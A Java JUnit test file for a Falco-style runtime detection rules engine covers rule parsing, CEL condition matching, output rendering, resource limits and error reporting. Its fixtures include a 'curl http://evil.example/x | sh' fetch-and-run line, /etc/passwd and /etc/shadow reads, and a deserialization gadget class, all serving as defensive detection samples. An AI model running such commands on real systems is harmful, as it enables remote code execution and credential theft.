package dev.vigil.metrics.agent.guard.custom;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.net.URISyntaxException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class CustomRulesTest {
    @TempDir
    Path tmp;

    private static CustomRules good() throws Exception {
        return CustomRules.load(resource("good-rules.yaml"));
    }

    static Path resource(String name) throws URISyntaxException {
        return Path.of(CustomRulesTest.class.getResource(name).toURI());
    }

    private static CustomRule rule(CustomRules rules, String id) {
        return rules.rules().stream().filter(r -> r.id().equals(id)).findFirst().orElseThrow();
    }

    @Test
    void loadsAFalcoStyleFileWithPrioritiesAsFalcoPrintsThem() throws Exception {
        CustomRules rules = good();
        assertThat(rules.rules())
                .extracting(CustomRule::id, CustomRule::priority)
                .containsExactly(
                        org.assertj.core.groups.Tuple.tuple("curl-from-the-app", "Warning"),
                        org.assertj.core.groups.Tuple.tuple("etc-read-from-a-request", "Error"),
                        org.assertj.core.groups.Tuple.tuple("gadget-package", "Critical"),
                        org.assertj.core.groups.Tuple.tuple("ldap-port", "Informational"));
        assertThat(rule(rules, "curl-from-the-app").tags()).containsExactly("network", "mitre_command_and_control");
        assertThat(rule(rules, "ldap-port").tags()).isEmpty();
    }

    @Test
    void matchesOnKindAndFields() throws Exception {
        CustomRule curl = rule(good(), "curl-from-the-app");
        assertThat(curl.matches("process", Map.of("proc.cmdline", "curl http://evil.example/x | sh")))
                .isTrue();
        assertThat(curl.matches("process", Map.of("proc.cmdline", "ls -l"))).isFalse();
        assertThat(curl.matches("file", Map.of("proc.cmdline", "curl http://evil.example/x")))
                .as("another kind")
                .isFalse();
    }

    @Test
    void aScriptEvaluationsFieldsAreReadable() throws Exception {
        CustomRule r = rule(parse("""
                        - rule: nashorn-anywhere
                          desc: any Nashorn evaluation of a long script
                          priority: Notice
                          condition: kind == "script" && script.engine.contains("Nashorn") && int(script.length) > 10
                          output: "%script.engine evaluated %script.length chars"
                        """), "nashorn-anywhere");
        assertThat(r.matches(
                        "script",
                        Map.of(
                                "script.engine",
                                "org.openjdk.nashorn.api.scripting.NashornScriptEngine",
                                "script.length",
                                "42")))
                .isTrue();
        assertThat(r.matches("script", Map.of("script.engine", "groovy.Engine", "script.length", "42")))
                .isFalse();
    }

    @Test
    void anExceptionThatHoldsSuppressesTheRule() throws Exception {
        CustomRule curl = rule(good(), "curl-from-the-app");
        assertThat(curl.matches("process", Map.of("proc.cmdline", "curl -s localhost:8080/health")))
                .isFalse();
        assertThat(curl.matches("process", Map.of("proc.cmdline", "curl -s localhost:8080/health?x")))
                .isTrue();
    }

    @Test
    void aMissingFieldIsNoMatchAndNeverAnError() throws Exception {
        CustomRule etc = rule(good(), "etc-read-from-a-request");
        assertThat(etc.matches("file", Map.of("fd.name", "/etc/passwd", "http.route", "/items/{id}")))
                .isTrue();
        assertThat(etc.matches("file", Map.of("fd.name", "/etc/passwd")))
                .as("has(http.route) is false outside a request")
                .isFalse();
        assertThat(etc.matches("file", Map.of("http.route", "/items/{id}")))
                .as("fd.name missing: evaluation error, so no match")
                .isFalse();
        assertThat(etc.matches("file", Map.of())).isFalse();
        assertThat(etc.matches(null, null)).isFalse();
        Map<String, String> withNulls = new HashMap<>();
        withNulls.put(null, "x");
        withNulls.put("fd.name", null);
        withNulls.put("noprefix", "y");
        assertThat(etc.matches("file", withNulls)).isFalse();
    }

    @Test
    void aMissingFieldInAnExceptionDoesNotSuppress() throws Exception {
        CustomRules rules = parse("""
                - rule: r
                  desc: d
                  priority: Notice
                  condition: kind == "connect"
                  output: o
                  exceptions:
                    - name: internal
                      condition: net.host.endsWith(".internal")
                """);
        CustomRule r = rules.rules().get(0);
        assertThat(r.matches("connect", Map.of("net.host", "db.internal"))).isFalse();
        assertThat(r.matches("connect", Map.of("net.host", "evil.example"))).isTrue();
        assertThat(r.matches("connect", Map.of("net.port", "389")))
                .as("net.host missing: the exception cannot be evaluated and does not suppress")
                .isTrue();
    }

    @Test
    void aDisabledRuleNeverMatches() throws Exception {
        CustomRule gadget = rule(good(), "gadget-package");
        Map<String, String> event = Map.of("class.name", "org.apache.commons.collections.functors.InvokerTransformer");
        assertThat(gadget.matches("deserialize", event)).isFalse();
        CustomRules enabled =
                parse(Files.readString(resource("good-rules.yaml")).replace("enabled: false", ""));
        assertThat(rule(enabled, "gadget-package").matches("deserialize", event))
                .as("the same rule enabled: `class` works as a CEL identifier")
                .isTrue();
    }

    @Test
    void membershipAndFieldsWithDotsInTheirNames() throws Exception {
        assertThat(rule(good(), "ldap-port").matches("connect", Map.of("net.port", "636", "net.host", "x")))
                .isTrue();
        CustomRules rules = parse("""
                - rule: r
                  desc: d
                  priority: Notice
                  condition: java["stack.top"].startsWith("org.apache.logging")
                  output: o
                """);
        assertThat(rules.rules().get(0).matches("jndi", Map.of("java.stack.top", "org.apache.logging.log4j.X")))
                .isTrue();
    }

    @Test
    void conditionsNamingTheirKindsAreNotEvaluatedForOtherKinds() {
        assertThat(CelCondition.compile("kind == 'process' && proc.cmdline.contains('x')")
                        .kinds())
                .containsExactly("process");
        assertThat(CelCondition.compile("'file' == kind").kinds()).containsExactly("file");
        assertThat(CelCondition.compile("kind in ['file', 'process'] && fd.name != '' && kind != 'x'")
                        .kinds())
                .containsExactlyInAnyOrder("file", "process");
        assertThat(CelCondition.compile("(kind == 'jndi' || kind == 'connect') && net.host == 'a'")
                        .kinds())
                .containsExactlyInAnyOrder("jndi", "connect");
        assertThat(CelCondition.compile("kind == 'jndi' && kind == 'connect'").kinds())
                .isEmpty();
        assertThat(CelCondition.compile("kind == 'jndi' || proc.cmdline == 'a'").kinds())
                .isNull();
        assertThat(CelCondition.compile("kind != 'jndi'").kinds()).isNull();
        assertThat(CelCondition.compile("!(kind == 'jndi')").kinds()).isNull();
        assertThat(CelCondition.compile("[1].exists(kind, kind == 1) && kind == 'file'")
                        .kinds())
                .containsExactly("file");
        assertThat(CelCondition.compile("proc.cmdline == 'kind'").kinds()).isNull();
    }

    @Test
    void rendersTheOutputTemplateLikeFalco() throws Exception {
        CustomRules rules = good();
        assertThat(rule(rules, "curl-from-the-app")
                        .render(Map.of("proc.cmdline", "curl x", "thread.name", "http-nio-8080-exec-1")))
                .isEqualTo("Download tool started (command=curl x thread=http-nio-8080-exec-1 route=<NA>)");
        assertThat(rule(rules, "etc-read-from-a-request")
                        .render(Map.of("fd.name", "/etc/shadow", "http.method", "GET", "http.route", "/a/{id}")))
                .as("a dot ending a placeholder is punctuation")
                .isEqualTo("File /etc/shadow opened by GET /a/{id}.");
        assertThat(rule(rules, "ldap-port").render(Map.of("net.host", "x", "net.port", "389")))
                .isEqualTo("Connection to x:389");
        assertThat(rule(rules, "ldap-port").render(null)).isEqualTo("Connection to <NA>:<NA>");
    }

    @Test
    void renderedValuesStayOnOneLineAndBounded() throws Exception {
        CustomRule r = rule(good(), "ldap-port");
        assertThat(r.render(Map.of("net.host", "a\nFAKE EVENT\r\tb", "net.port", "1")))
                .isEqualTo("Connection to a FAKE EVENT  b:1");
        assertThat(r.render(Map.of("net.host", "h".repeat(5_000), "net.port", "1")))
                .hasSize("Connection to ".length() + 1_000 + 1 + ":1".length());
    }

    @Test
    void placeholdersWithArgumentsAndLiteralPercent() {
        OutputTemplate t = OutputTemplate.parse("100% of %proc.aname[2] at %thread.name");
        assertThat(t.render(Map.of("proc.aname[2]", "bash", "thread.name", "main")))
                .isEqualTo("100% of bash at main");
    }

    @Test
    void anEmptyFileHasNoRules() throws Exception {
        assertThat(parse("").rules()).isEmpty();
        assertThat(parse("# only a comment\n").rules()).isEmpty();
    }

    @Test
    void aHostileConditionIsBoundedByTheIterationBudget() throws Exception {
        String list = "[" + "1,".repeat(50) + "1]";
        CustomRules rules = parse("""
                - rule: r
                  desc: d
                  priority: Notice
                  condition: '%1$s.all(a, %1$s.all(b, %1$s.all(c, %1$s.all(d, true))))'
                  output: o
                """.formatted(list));
        // 51^4 = 6.8 million iterations if unbounded; the budget of 1,000 stops it: an error, so no match
        assertThat(rules.rules().get(0).matches("process", Map.of())).isFalse();
    }

    @Test
    void regularExpressionsAreLinearAndBounded() throws Exception {
        CustomRules rules = parse("""
                - rule: backtracking
                  desc: a pattern that backtracks exponentially in java.util.regex
                  priority: Notice
                  condition: proc.cmdline.matches("^(a+)+$")
                  output: o
                - rule: huge-program
                  desc: a pattern above the RE2 program size limit
                  priority: Notice
                  condition: proc.cmdline.matches("(((a{100}){100}){100})")
                  output: o
                """);
        Map<String, String> hostile = Map.of("proc.cmdline", "a".repeat(10_000) + "!");
        assertTimeoutPreemptively(Duration.ofSeconds(30), () -> {
            // RE2: linear in the input, no catastrophic backtracking
            assertThat(rules.rules().get(0).matches("process", hostile)).isFalse();
            assertThat(rules.rules().get(0).matches("process", Map.of("proc.cmdline", "aaaa")))
                    .isTrue();
            // refused (RE2 program size limit of 1,000, or RE2/J's own repetition limits): an evaluation error, no
            // match
            assertThat(rules.rules().get(1).matches("process", Map.of("proc.cmdline", "a".repeat(1_000_000))))
                    .isFalse();
        });
    }

    @Test
    void refusesConditionsAboveTheSizeLimit() {
        String big = "kind == \"process\"" + " || kind == \"x\"".repeat(300);
        assertThat(big.length()).isGreaterThan(CelCondition.MAX_CHARS);
        assertThatThrownBy(() -> parse(rule("condition: '" + big + "'")))
                .isInstanceOf(CustomRulesException.class)
                .hasMessage(file() + ":4: field 'condition': has " + big.length()
                        + " characters, at most 4000 are allowed");
    }

    @Test
    void deeplyNestedConditionIsAOneLineErrorNotAStackOverflow() {
        String deep = "(".repeat(1_000) + "true" + ")".repeat(1_000);
        assertThatThrownBy(() -> parse(rule("condition: '" + deep + "'")))
                .isInstanceOf(CustomRulesException.class)
                .hasMessageStartingWith(file() + ":4: field 'condition': does not compile: ")
                .satisfies(e -> assertThat(e.getMessage()).doesNotContain("\n"));
    }

    // ---- errors: file:line: field 'x': what is wrong ----

    @Test
    void celCompileErrorsNameFileLineFieldAndCelColumn() {
        assertError(
                rule("condition: prc.cmdline == 'x'"),
                4,
                "condition",
                "does not compile: undeclared reference to 'prc' (at 1:1)");
        assertError(
                rule("condition: proc.cmdline"),
                4,
                "condition",
                "does not compile: expected type 'bool' but found 'string' (at 1:5)");
        assertError(rule("condition: kind == "), 4, "condition", null);
    }

    @Test
    void unknownKeysSuggestTheKnownOne() throws Exception {
        CustomRulesException e = error("""
                - rule: r
                  desc: d
                  priority: Notice
                  conditon: kind == "process"
                  output: o
                """);
        assertThat(e.problems())
                .containsExactly(
                        file() + ":1: field 'condition': is missing, expected a non-empty text",
                        file() + ":4: field 'conditon': unknown key (did you mean 'condition'?), expected one of rule,"
                                + " desc, priority, condition, output, tags, enabled, exceptions");
        assertThat(e.getMessage()).isEqualTo(e.problems().get(0));
        assertThat(e.line()).isEqualTo(1);
        assertThat(e.field()).isEqualTo("condition");
    }

    @Test
    void duplicateRuleIds() {
        assertError("""
                - rule: same
                  desc: d
                  priority: Notice
                  condition: "true"
                  output: o
                - rule: same
                  desc: d
                  priority: Notice
                  condition: "true"
                  output: o
                """, 6, "rule", "duplicate rule id 'same' (first defined at line 1)");
    }

    @Test
    void badPrioritiesListFalcosLevels() {
        String levels = ", expected one of Emergency, Alert, Critical, Error, Warning, Notice, Informational, Debug";
        assertError(
                rule("priority: High").replace("priority: Notice\n", ""),
                3,
                "priority",
                "unknown priority 'High'" + levels);
        assertError(
                rule("priority: Warnig").replace("priority: Notice\n", ""),
                3,
                "priority",
                "unknown priority 'Warnig' (did you mean 'Warning'?)" + levels);
    }

    @Test
    void otherFieldErrors() {
        assertError(rule("enabled: yes"), 6, "enabled", "is 'yes', expected true or false");
        assertError(rule("enabled: 'true'"), 6, "enabled", "is 'true', expected true or false");
        assertError(rule("tags: network"), 6, "tags", "is 'network', expected a list such as [network]");
        assertError(rule("tags: [a, [b]]"), 6, "tags[1]", "is a list, expected a one-line tag");
        assertError(rule("output: ''").replace("output: o\n", ""), 5, "output", "is '', expected a non-empty text");
        assertError(
                rule("output: run %prc.cmdline").replace("output: o\n", ""),
                5,
                "output",
                "unknown field '%prc.cmdline', expected a field of proc, fd, jndi, net, class, http, thread, java, script"
                        + " such as %proc.cmdline (did you mean 'proc'?)");
        assertError(
                rule("exceptions: {name: x}"), 6, "exceptions", "is a mapping, expected a list of {name, condition}");
        assertError(
                rule("exceptions:\n    - name: x\n      condition: proc.nme.size() > "),
                8,
                "exceptions[0].condition",
                null);
        assertError(
                rule("exceptions:\n    - name: x\n      condition: proc.name == 1"),
                8,
                "exceptions[0].condition",
                "does not compile: found no matching overload for '_==_' applied to '(string, int)' (candidates: (%A0, %A0)) (at 1:11)");
        assertError(
                rule("exceptions:\n    - name: x\n      fields: [proc.name]\n      condition: 'true'"),
                8,
                "exceptions[0].fields",
                "unknown key (Falco's fields/comps/values exceptions are not supported: write the exception as a CEL"
                        + " condition), expected one of name, condition");
        assertError(
                rule("exceptions:\n    - condition: 'true'"),
                7,
                "exceptions[0].name",
                "is missing, expected a non-empty text");
        assertError(
                "- rule: \"a\\nb\"\n  desc: d\n  priority: Notice\n  condition: 'true'\n  output: o\n",
                1,
                "rule",
                "contains a line break or control character, expected one line");
    }

    @Test
    void fileLevelErrors() throws Exception {
        assertError("rule: r\n", 1, "(top level)", "is a mapping, expected a list of rules (- rule: …)");
        assertError("- just text\n", 1, "(rule)", "is 'just text', expected a mapping starting with rule:");
        assertError(
                "- macro: shell\n  condition: x\n",
                1,
                "macro",
                "Falco macro entries are not supported here, expected only rules (write the condition in CEL)");
        assertError("- rule: r\n  desc: [unclosed\n", 3, "(yaml)", null);
        assertError("- rule: r\n  rule: s\n", 2, "(yaml)", "key 'rule' appears twice (first at line 1)");
        assertError("- &a {rule: r}\n- *a\n", 1, "(yaml)", "anchors (&name) are not supported in a rules file");
        assertError(
                "- rule: r\n---\n- rule: s\n", 2, "(yaml)", "more than one YAML document, expected one list of rules");
        assertError("[".repeat(100) + "]".repeat(100), 1, "(yaml)", "nesting deeper than 20 levels");

        Path missing = tmp.resolve("missing.yaml");
        assertThatThrownBy(() -> CustomRules.load(missing))
                .isInstanceOf(CustomRulesException.class)
                .hasMessage(missing + ":1: field '(file)': does not exist");
        Path binary = tmp.resolve("binary.yaml");
        Files.write(binary, new byte[] {'-', ' ', (byte) 0xff, (byte) 0xfe});
        assertThatThrownBy(() -> CustomRules.load(binary))
                .isInstanceOf(CustomRulesException.class)
                .hasMessage(binary + ":1: field '(file)': is not UTF-8 text");
    }

    @Test
    void everyProblemIsReportedInLineOrder() {
        CustomRulesException e = error("""
                - rule: a
                  desc: d
                  priority: Loud
                  condition: nope
                  output: o
                - rule: b
                  desc: d
                  priority: Notice
                  condition: "true"
                  output: o
                  enabled: maybe
                """);
        assertThat(e.problems())
                .extracting(p -> p.substring(file().toString().length()))
                .containsExactly(
                        ":3: field 'priority': unknown priority 'Loud', expected one of Emergency, Alert, Critical,"
                                + " Error, Warning, Notice, Informational, Debug",
                        ":4: field 'condition': does not compile: undeclared reference to 'nope' (at 1:1)",
                        ":11: field 'enabled': is 'maybe', expected true or false");
    }

    @Test
    void theReadmeErrorExample() {
        CustomRulesException e = error("""
                - rule: a
                  desc: d
                  priority: Notice
                  condition: prc.x == 'a'
                  output: o
                - rule: b
                  priority: Warnig
                  desc: d
                  conditon: "true"
                  output: o
                """);
        // the README shows these lines for a relative path
        assertThat(e.problems())
                .extracting(p -> "rules.yaml" + p.substring(file().toString().length()))
                .containsExactly(
                        "rules.yaml:4: field 'condition': does not compile: undeclared reference to 'prc' (at 1:1)",
                        "rules.yaml:6: field 'condition': is missing, expected a non-empty text",
                        "rules.yaml:7: field 'priority': unknown priority 'Warnig' (did you mean 'Warning'?), expected"
                                + " one of Emergency, Alert, Critical, Error, Warning, Notice, Informational, Debug",
                        "rules.yaml:9: field 'conditon': unknown key (did you mean 'condition'?), expected one of rule,"
                                + " desc, priority, condition, output, tags, enabled, exceptions");
    }

    @Test
    void messagesAreOneLine() {
        CustomRulesException e = error(rule("condition: |\n    proc.name ==\n    ==  'x'"));
        assertThat(e.getMessage()).doesNotContain("\n").contains(":4: field 'condition': does not compile: ");
    }

    // ---- helpers ----

    /** A valid rule (lines 1-5) with {@code extra} added as line 6, or replacing a key of the same name. */
    static String rule(String extra) {
        String key = extra.substring(0, extra.indexOf(':'));
        StringBuilder b = new StringBuilder("- rule: r\n");
        for (String line : List.of("desc: d", "priority: Notice", "condition: kind == 'process'", "output: o")) {
            if (line.startsWith(key + ":")) {
                b.append("  ").append(extra).append('\n');
                extra = null;
            } else {
                b.append("  ").append(line).append('\n');
            }
        }
        if (extra != null) {
            b.append("  ").append(extra).append('\n');
        }
        return b.toString();
    }

    private Path file() {
        return tmp.resolve("rules.yaml");
    }

    private CustomRules parse(String yaml) throws Exception {
        Files.writeString(file(), yaml);
        return CustomRules.load(file());
    }

    private CustomRulesException error(String yaml) {
        try {
            parse(yaml);
        } catch (CustomRulesException e) {
            return e;
        } catch (Exception e) {
            throw new AssertionError(e);
        }
        throw new AssertionError("no error for:\n" + yaml);
    }

    /** The first problem is at {@code line} in {@code field}; its text is {@code message} (null: any one line). */
    private void assertError(String yaml, int line, String field, String message) {
        CustomRulesException e = error(yaml);
        String prefix = file() + ":" + line + ": field '" + field + "': ";
        if (message == null) {
            assertThat(e.getMessage()).startsWith(prefix).doesNotContain("\n");
        } else {
            assertThat(e.getMessage()).isEqualTo(prefix + message);
        }
    }
}
